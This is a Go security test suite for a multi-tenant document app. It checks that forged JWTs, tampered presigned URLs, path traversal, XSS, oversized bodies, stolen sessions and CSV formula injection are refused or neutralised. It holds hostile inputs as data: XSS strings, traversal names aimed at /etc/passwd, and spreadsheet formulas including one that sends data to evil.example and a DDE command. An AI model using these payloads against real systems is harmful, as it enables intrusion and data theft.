package hooks_test

// The attack suite: what an outsider, a colleague of another tenant or a
// stolen token can try against the running app, over real HTTP. Cross-tenant
// IDOR on every route and collection is isolation_test.go's job; store-level
// URL tampering is internal/blob's (both stores); the n8n verifier's edge
// cases are internal/n8n's. Here the same attacks run end to end through the
// routes that matter, plus what no other test covers. docs/security.md lists
// where each attack is tested.

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/pocketbase/pocketbase/core"

	"counterpart/hooks/api"
	"counterpart/hooks/apptest"
	"counterpart/internal/blob/blobtest"
	"counterpart/internal/config"
)

// xssPayloads are stored as data and must come back as the same data, in
// JSON with nosniff and a policy that runs nothing.
var xssPayloads = []string{
	`<script>alert(document.domain)</script>`,
	`<img src=x onerror=alert(1)>`,
	`"><svg/onload=alert(1)>`,
	`javascript:alert(1)`,
	`[click](javascript:alert(1)) ![x](x" onerror="alert(1))`,
}

func atkWait(t *testing.T, what string, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); !cond(); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
	}
}

func atkPost(t *testing.T, rawURL, authorization string, body any) (int, string) {
	t.Helper()
	b, _ := json.Marshal(body)
	req, _ := http.NewRequest("POST", rawURL, bytes.NewReader(b))
	req.Header.Set("Content-Type", "application/json")
	if authorization != "" {
		req.Header.Set("Authorization", authorization)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	out, _ := io.ReadAll(res.Body)
	return res.StatusCode, string(out)
}

func atkWritePEM(t *testing.T, path, kind string, der []byte, mode os.FileMode) {
	t.Helper()
	if err := os.WriteFile(path, pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: der}), mode); err != nil {
		t.Fatal(err)
	}
}

// TestAttackCallbackTokensRS256: with an RS256 key pair configured, tokens
// that a thief or a confused library could produce are refused by the ingest
// callback: alg none in any spelling, HS256 keyed with the public key (the
// classic HS/RS confusion), another RSA key, the right key under PS256, a key
// embedded in the header, expired, without exp, of another tenant, replayed.
func TestAttackCallbackTokensRS256(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	must(t, err)
	privDER, _ := x509.MarshalPKCS8PrivateKey(key)
	pubDER, _ := x509.MarshalPKIXPublicKey(&key.PublicKey)
	privFile, pubFile := filepath.Join(dir, "n8n.key"), filepath.Join(dir, "n8n.pub")
	atkWritePEM(t, privFile, "PRIVATE KEY", privDER, 0o600)
	atkWritePEM(t, pubFile, "PUBLIC KEY", pubDER, 0o644)
	pubPEM, _ := os.ReadFile(pubFile)

	// n8n's ingest webhook: accepts and never calls back, so the document waits in processing
	n8nStub := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(200) }))
	t.Cleanup(n8nStub.Close)
	cfg := apptest.Config()
	cfg.N8N.IngestURL = n8nStub.URL + "/webhook/ingest"
	cfg.N8N.JWT = config.JWT{Algorithm: "RS256", PrivateKeyFile: privFile, PublicKeyFile: pubFile, TTL: time.Minute}
	app := apptest.New(t, cfg)
	srv := apptest.Serve(t, app)
	member := apptest.Token(t, app, "member@smith.example")
	id := apptest.Upload(t, srv, member, "bulletin.txt", "text/plain", []byte("Oil filter 04152-YZZA6 every 15,000 km"))
	atkWait(t, "processing", func() bool {
		d, err := app.FindRecordById("documents", id)
		return err == nil && d.GetString("status") == "processing"
	})
	doc, _ := app.FindRecordById("documents", id)
	tenant := doc.GetString("tenant")
	jones, err := app.FindFirstRecordByData("tenants", "slug", "jones")
	must(t, err)

	now := time.Now()
	claims := func(extra map[string]any) jwt.MapClaims {
		c := jwt.MapClaims{"tenant": tenant, "document": id, "iat": now.Unix(), "exp": now.Add(time.Minute).Unix(), "jti": "set-by-sign"}
		for k, v := range extra {
			if v == nil {
				delete(c, k)
			} else {
				c[k] = v
			}
		}
		return c
	}
	n := 0
	sign := func(method jwt.SigningMethod, k any, c jwt.MapClaims, header map[string]any) string {
		n++
		c["jti"] = fmt.Sprint("attack-", n)
		tok := jwt.NewWithClaims(method, c)
		for h, v := range header {
			tok.Header[h] = v
		}
		s, err := tok.SignedString(k)
		must(t, err)
		return s
	}
	unsigned := func(alg string) string {
		h := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"` + alg + `","typ":"JWT"}`))
		p, _ := json.Marshal(claims(nil))
		return h + "." + base64.RawURLEncoding.EncodeToString(p) + "."
	}
	other, _ := rsa.GenerateKey(rand.Reader, 2048)
	ec, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	otherJWK := map[string]any{"kty": "RSA", "n": base64.RawURLEncoding.EncodeToString(other.N.Bytes()), "e": "AQAB"}

	cases := []struct {
		name   string
		token  string
		status int // 0: any refusal (401 or 403)
	}{
		{"alg none", unsigned("none"), 0},
		{"alg None", unsigned("None"), 0},
		{"alg NONE", unsigned("NONE"), 0},
		{"HS256 keyed with the public key", sign(jwt.SigningMethodHS256, pubPEM, claims(nil), nil), 0},
		{"HS256 keyed with the public key DER", sign(jwt.SigningMethodHS256, pubDER, claims(nil), nil), 0},
		{"RS256 with another key", sign(jwt.SigningMethodRS256, other, claims(nil), nil), 0},
		{"RS256 with another key named in jwk", sign(jwt.SigningMethodRS256, other, claims(nil), map[string]any{"jwk": otherJWK}), 0},
		{"RS256 with another key behind jku", sign(jwt.SigningMethodRS256, other, claims(nil), map[string]any{"jku": n8nStub.URL + "/jwks.json", "kid": "x"}), 0},
		{"PS256 with the right key", sign(jwt.SigningMethodPS256, key, claims(nil), nil), 0},
		{"RS512 with the right key", sign(jwt.SigningMethodRS512, key, claims(nil), nil), 0},
		{"ES256", sign(jwt.SigningMethodES256, ec, claims(nil), nil), 0},
		{"expired", sign(jwt.SigningMethodRS256, key, claims(map[string]any{"iat": now.Add(-time.Hour).Unix(), "exp": now.Add(-50 * time.Minute).Unix()}), nil), 0},
		{"without exp", sign(jwt.SigningMethodRS256, key, claims(map[string]any{"exp": nil}), nil), 0},
		{"valid for a year", sign(jwt.SigningMethodRS256, key, claims(map[string]any{"exp": now.Add(365 * 24 * time.Hour).Unix()}), nil), 0},
		{"issued in the future", sign(jwt.SigningMethodRS256, key, claims(map[string]any{"iat": now.Add(time.Hour).Unix(), "exp": now.Add(time.Hour + time.Minute).Unix()}), nil), 0},
		{"without tenant", sign(jwt.SigningMethodRS256, key, claims(map[string]any{"tenant": nil}), nil), 0},
		{"another tenant", sign(jwt.SigningMethodRS256, key, claims(map[string]any{"tenant": jones.Id, "document": nil}), nil), 404},
		{"another document", sign(jwt.SigningMethodRS256, key, claims(map[string]any{"document": "aaaaaaaaaaaaaaa"}), nil), 403},
	}
	cbURL := srv.URL + "/api/n8n/callback/documents/" + id
	body := map[string]any{"status": "ready", "chunks": []map[string]any{{"text": "forged passage", "page": 1}}}
	for _, c := range cases {
		status, out := atkPost(t, cbURL, "Bearer "+c.token, body)
		if (c.status == 0 && status != 401 && status != 403) || (c.status != 0 && status != c.status) {
			t.Errorf("%s: %d %s, want %v", c.name, status, out, map[bool]any{true: "401/403", false: c.status}[c.status == 0])
		}
	}
	// a valid token, but in the query string or as a cookie: not where tokens are read
	valid := sign(jwt.SigningMethodRS256, key, claims(nil), nil)
	if status, _ := atkPost(t, cbURL+"?token="+url.QueryEscape(valid)+"&access_token="+url.QueryEscape(valid), "", body); status != 401 {
		t.Errorf("token in the query: %d, want 401", status)
	}
	if d, _ := app.FindRecordById("documents", id); d.GetString("status") != "processing" || d.GetInt("chunks") != 0 {
		t.Fatalf("a refused callback changed the document: %v", d.FieldsData())
	}
	// positive control, then the same token again
	if status, out := atkPost(t, cbURL, "Bearer "+valid, body); status != 204 {
		t.Fatalf("valid RS256 callback: %d %s", status, out)
	}
	if status, _ := atkPost(t, cbURL, "Bearer "+valid, body); status != 401 && status != 403 && status != 409 {
		t.Errorf("replayed callback: %d, want a refusal", status)
	}
}

// TestAttackPresignedURLsAcrossTenants: a download URL minted for tenant A's
// document cannot be bent to tenant B's object (key swapped, path traversal
// in the key, method or expiry changed), with either store, through the app.
func TestAttackPresignedURLsAcrossTenants(t *testing.T) {
	t.Parallel()
	for _, driver := range []string{"local", "s3"} {
		t.Run(driver, func(t *testing.T) {
			t.Parallel()
			cfg := apptest.Config()
			if driver == "s3" {
				s := blobtest.StartS3(t)
				cfg.Storage.Driver = "s3"
				cfg.Storage.S3 = config.S3{Endpoint: s.Endpoint, Bucket: s.Bucket, Region: s.Region, AccessKey: s.AccessKey,
					SecretKey: s.SecretKey, UseSSL: s.UseSSL, PathStyle: s.PathStyle}
			}
			app := apptest.New(t, cfg)
			srv := apptest.Serve(t, app)
			a, b := apptest.Token(t, app, "member@smith.example"), apptest.Token(t, app, "member@jones.example")
			aID := apptest.Upload(t, srv, a, "smith-prices.txt", "text/plain", []byte("smith price list"))
			bID := apptest.Upload(t, srv, b, "jones-prices.txt", "text/plain", []byte("jones secret price list"))
			aDoc, _ := app.FindRecordById("documents", aID)
			bDoc, _ := app.FindRecordById("documents", bID)
			res := apptest.Do(t, srv, "GET", "/api/documents/"+aID+"/download", a, nil)
			if res.Status != 200 {
				t.Fatalf("download A: %d %s", res.Status, res.Body)
			}
			minted := res.JSON["url"].(string)
			get := func(u string) (int, string) {
				r, err := http.Get(u)
				if err != nil {
					return 0, err.Error()
				}
				defer r.Body.Close()
				body, _ := io.ReadAll(r.Body)
				return r.StatusCode, string(body)
			}
			if st, body := get(minted); st != 200 || body != "smith price list" {
				t.Fatalf("A's own URL: %d %q", st, body)
			}
			aKey, bKey := aDoc.GetString("storage_key"), bDoc.GetString("storage_key")
			swapped := strings.Replace(minted, aKey, bKey, 1)
			if swapped == minted {
				// the key is escaped in the URL
				swapped = strings.Replace(minted, escapePath(aKey), escapePath(bKey), 1)
			}
			traversal := strings.Replace(swapped, escapePath(bKey), escapePath(aKey)+"/../../../"+escapePath(strings.TrimPrefix(bKey, "tenants/")), 1)
			u, _ := url.Parse(minted)
			q := u.Query()
			for _, p := range []string{"expires", "X-Amz-Expires"} {
				if q.Get(p) != "" {
					q.Set(p, "9999999999")
					if p == "X-Amz-Expires" {
						q.Set(p, "604800")
					}
				}
			}
			u.RawQuery = q.Encode()
			for name, tampered := range map[string]string{"key swapped": swapped, "traversal": traversal, "expiry extended": u.String()} {
				if tampered == minted {
					t.Fatalf("%s: tampering changed nothing", name)
				}
				if st, body := get(tampered); st == 200 || strings.Contains(body, "jones secret") {
					t.Errorf("%s: %d %q, want a refusal", name, st, body)
				}
			}
			// a PUT over A's object with the GET URL
			req, _ := http.NewRequest("PUT", minted, strings.NewReader("overwritten"))
			if r, err := http.DefaultClient.Do(req); err == nil {
				r.Body.Close()
				if r.StatusCode == 200 {
					t.Error("PUT with a GET URL succeeded")
				}
			}
			if st, body := get(minted); st != 200 || body != "smith price list" {
				t.Errorf("after the attacks A's object reads %d %q", st, body)
			}
		})
	}
}

func escapePath(key string) string {
	segs := strings.Split(key, "/")
	for i, s := range segs {
		segs[i] = url.PathEscape(s)
	}
	return strings.Join(segs, "/")
}

// TestAttackPathTraversalInNames: file names that try to climb out of the
// tenant's prefix become plain names inside it.
func TestAttackPathTraversalInNames(t *testing.T) {
	t.Parallel()
	app := apptest.New(t, nil)
	srv := apptest.Serve(t, app)
	member := apptest.Token(t, app, "member@smith.example")
	smith, _ := app.FindFirstRecordByData("tenants", "slug", "smith")
	names := []string{"../../../../etc/passwd.txt", `..\..\..\windows\win.ini.txt`, "%2e%2e%2f%2e%2e%2fsecret.txt",
		"/abs/path.txt", "a/../../b.txt", "nul\x00byte.txt", "tenants/other/documents/x/y.txt", "....//....//z.txt"}
	for _, name := range names {
		id := apptest.Upload(t, srv, member, name, "text/plain", []byte("payload"))
		doc, err := app.FindRecordById("documents", id)
		must(t, err)
		key := doc.GetString("storage_key")
		prefix := "tenants/" + smith.Id + "/documents/" + id + "/"
		rest := strings.TrimPrefix(key, prefix)
		if !strings.HasPrefix(key, prefix) || rest == "" || strings.ContainsAny(rest, "/\\\x00") || rest == ".." || strings.Contains(key, "/../") {
			t.Errorf("name %q → key %q, want one name under %s", name, key, prefix)
		}
	}
	// raw traversal against the blob route: never a file outside the store
	for _, raw := range []string{"/api/blob/../../../../etc/passwd", "/api/blob/%2e%2e/%2e%2e/etc/passwd", "/api/blob/..%2f..%2fetc%2fpasswd?method=GET&expires=9999999999&sig=00"} {
		req, _ := http.NewRequest("GET", srv.URL, nil)
		req.URL.Opaque = raw // sent as written, no client-side cleaning
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			continue
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode == 200 && strings.Contains(string(body), "root:") {
			t.Errorf("%s served /etc/passwd", raw)
		}
	}
}

// TestAttackXSSPayloadsAreData: script in document names, metadata, chat
// questions, answers and sources comes back from the API as the same JSON
// string (never interpreted), in answers that cannot render as a page.
func TestAttackXSSPayloadsAreData(t *testing.T) {
	t.Parallel()
	app := apptest.New(t, nil) // no n8n: answers are the retrieved passages, quoted
	srv := apptest.Serve(t, app)
	member := apptest.Token(t, app, "member@smith.example")
	checkJSON := func(t *testing.T, method, path string, body any, payload string) map[string]any {
		t.Helper()
		b, _ := json.Marshal(body)
		var rd io.Reader
		if body != nil {
			rd = bytes.NewReader(b)
		}
		req, _ := http.NewRequest(method, srv.URL+path, rd)
		req.Header.Set("Authorization", member)
		req.Header.Set("Content-Type", "application/json")
		res, err := http.DefaultClient.Do(req)
		must(t, err)
		defer res.Body.Close()
		raw, _ := io.ReadAll(res.Body)
		if res.StatusCode >= 300 {
			t.Fatalf("%s %s: %d %s", method, path, res.StatusCode, raw)
		}
		if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
			t.Errorf("%s %s: Content-Type %q", method, path, ct)
		}
		if res.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(res.Header.Get("Content-Security-Policy"), "default-src 'none'") {
			t.Errorf("%s %s: headers %v", method, path, res.Header)
		}
		var out map[string]any
		must(t, json.Unmarshal(raw, &out))
		if payload != "" && !containsString(out, payload) {
			t.Errorf("%s %s: payload %q not returned as data: %s", method, path, payload, raw)
		}
		return out
	}
	for i, p := range xssPayloads {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			id := apptest.Upload(t, srv, member, "catalog.txt", "text/plain", []byte("Brake disc 8E0-615-301-AG "+p))
			// metadata is edited once processing is done: an edit racing the
			// processing job can be lost (see the report of this suite)
			atkWait(t, "the document to be processed", func() bool {
				d, _ := app.FindRecordById("documents", id)
				return d.GetString("status") == "ready" || d.GetString("status") == "failed"
			})
			if d, _ := app.FindRecordById("documents", id); d.GetString("status") != "ready" {
				t.Fatalf("document %s: %s", d.GetString("status"), d.GetString("error"))
			}
			meta := map[string]any{"title": p, "category": "bulletin"}
			if len(p) <= 40 {
				meta["tags"] = []string{p}
			}
			checkJSON(t, "PATCH", "/api/collections/documents/records/"+id, meta, p)
			checkJSON(t, "GET", "/api/collections/documents/records/"+id, nil, p)
			conv := checkJSON(t, "POST", "/api/collections/conversations/records", memberConversation(t, app, p), p)
			answer := checkJSON(t, "POST", "/api/chat/conversations/"+conv["id"].(string)+"/messages", map[string]any{"content": "8E0-615-301-AG " + p}, p)
			// the quoted passage and the source's title carry the payload as text
			if !containsString(answer, p) {
				t.Errorf("answer: %v", answer)
			}
			checkJSON(t, "GET", "/api/search?q="+url.QueryEscape("8E0-615-301-AG"), nil, "")
		})
	}
}

// memberConversation is the body that creates a conversation of member@smith.example.
func memberConversation(t *testing.T, app core.App, title string) map[string]any {
	u, err := app.FindAuthRecordByEmail("users", "member@smith.example")
	must(t, err)
	return map[string]any{"tenant": u.GetString("tenant"), "user": u.Id, "title": title}
}

// containsString reports whether any string in v (decoded JSON) contains s.
func containsString(v any, s string) bool {
	switch x := v.(type) {
	case string:
		return strings.Contains(x, s)
	case map[string]any:
		for _, e := range x {
			if containsString(e, s) {
				return true
			}
		}
	case []any:
		for _, e := range x {
			if containsString(e, s) {
				return true
			}
		}
	}
	return false
}

// TestAttackOversizedBodiesOnEveryRoute: every custom route that takes a body
// refuses one over the JSON limit with 413 before it is read, whoever calls
// (the limit runs before authentication); only the local store's upload URL
// and n8n's ingest callback take more.
func TestAttackOversizedBodiesOnEveryRoute(t *testing.T) {
	t.Parallel()
	cfg := apptest.Config()
	cfg.Limits.MaxJSONBytes = 32 << 10
	app := apptest.New(t, cfg)
	srv := apptest.Serve(t, app)
	big := bytes.Repeat([]byte("A"), 64<<10)
	for _, r := range api.Routes(app) {
		if r.Method == "GET" || r.Method == "HEAD" || (r.Method == "PUT" && strings.HasPrefix(r.Path, "/api/blob/")) ||
			strings.HasPrefix(r.Path, "/api/n8n/callback/") { // bulk text from n8n: PocketBase's 32 MiB
			continue
		}
		path := strings.NewReplacer("{id}", "aaaaaaaaaaaaaaa", "{tenant}", "aaaaaaaaaaaaaaa", "{path...}", "x").Replace(r.Path)
		req, _ := http.NewRequest(r.Method, srv.URL+path, bytes.NewReader(big))
		req.Header.Set("Content-Type", "application/json")
		res, err := http.DefaultClient.Do(req)
		must(t, err)
		res.Body.Close()
		if res.StatusCode != 413 {
			t.Errorf("%s with 64 KiB: %d, want 413", r.Key(), res.StatusCode)
		}
	}
}

// TestAttackSessionsRevoked: a stolen session token stops working when its
// owner changes the password and when an admin deactivates the user.
func TestAttackSessionsRevoked(t *testing.T) {
	t.Parallel()
	app := apptest.New(t, nil)
	srv := apptest.Serve(t, app)
	check := func(t *testing.T, tok string) int {
		return apptest.Do(t, srv, "POST", "/api/collections/users/auth-refresh", tok, nil).Status
	}

	t.Run("password change", func(t *testing.T) {
		u, _ := app.FindAuthRecordByEmail("users", "member@smith.example")
		stolen := apptest.Token(t, app, "member@smith.example")
		if st := check(t, stolen); st != 200 {
			t.Fatalf("fresh token: %d", st)
		}
		res := apptest.Do(t, srv, "PATCH", "/api/collections/users/records/"+u.Id, stolen,
			map[string]any{"oldPassword": "counterpart-demo", "password": "a-new-password-123", "passwordConfirm": "a-new-password-123"})
		if res.Status != 200 {
			t.Fatalf("change password: %d %s", res.Status, res.Body)
		}
		if st := check(t, stolen); st != 401 {
			t.Errorf("old token after a password change: %d, want 401", st)
		}
		if r := apptest.Do(t, srv, "GET", "/api/collections/documents/records", stolen, nil); r.Status == 200 && len(r.Items()) > 0 {
			t.Errorf("old token still lists documents")
		}
		signIn := apptest.Do(t, srv, "POST", "/api/collections/users/auth-with-password", "", map[string]any{"identity": "member@smith.example", "password": "a-new-password-123"})
		if signIn.Status != 200 {
			t.Errorf("sign-in with the new password: %d", signIn.Status)
		}
	})

	t.Run("deactivation", func(t *testing.T) {
		u, _ := app.FindAuthRecordByEmail("users", "manager@smith.example")
		stolen := apptest.Token(t, app, "manager@smith.example")
		admin := apptest.Token(t, app, "admin@smith.example")
		res := apptest.Do(t, srv, "PATCH", "/api/collections/users/records/"+u.Id, admin, map[string]any{"active": false})
		if res.Status != 200 {
			t.Fatalf("deactivate: %d %s", res.Status, res.Body)
		}
		if st := check(t, stolen); st != 401 && st != 403 {
			t.Errorf("token of a deactivated user: %d, want 401/403", st)
		}
		if r := apptest.Do(t, srv, "POST", "/api/documents/uploads", stolen, map[string]any{"name": "a.txt", "type": "text/plain", "size": 1}); r.Status != 401 && r.Status != 403 {
			t.Errorf("deactivated user's upload: %d", r.Status)
		}
	})
}

// TestAttackCSVFormulaInjection: a conversation title crafted as a formula
// arrives in the tenant's CSV export as text.
func TestAttackCSVFormulaInjection(t *testing.T) {
	t.Parallel()
	app := apptest.New(t, nil)
	srv := apptest.Serve(t, app)
	member := apptest.Token(t, app, "member@smith.example")
	formulas := []string{`=HYPERLINK("http://evil.example/?d="&A1,"click")`, `+cmd|'/c calc'!A0`, `-2+3`, `@SUM(1+1)`, "\t=1+1"}
	for _, f := range formulas {
		if r := apptest.Do(t, srv, "POST", "/api/collections/conversations/records", member, memberConversation(t, app, f)); r.Status != 200 {
			t.Fatalf("create conversation: %d %s", r.Status, r.Body)
		}
	}
	manager := apptest.Token(t, app, "manager@smith.example")
	req, _ := http.NewRequest("GET", srv.URL+"/api/analytics/export/conversations.csv", nil)
	req.Header.Set("Authorization", manager)
	res, err := http.DefaultClient.Do(req)
	must(t, err)
	defer res.Body.Close()
	if res.StatusCode != 200 {
		b, _ := io.ReadAll(res.Body)
		t.Fatalf("export: %d %s", res.StatusCode, b)
	}
	rows, err := csv.NewReader(res.Body).ReadAll()
	must(t, err)
	seen := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell == "" {
				continue
			}
			if strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("cell %q would run as a formula", cell)
			}
			for _, f := range formulas {
				if cell == "'"+f {
					seen++
				}
			}
		}
	}
	if seen != len(formulas) {
		t.Errorf("found %d of %d neutralised titles in %v", seen, len(formulas), rows)
	}
}
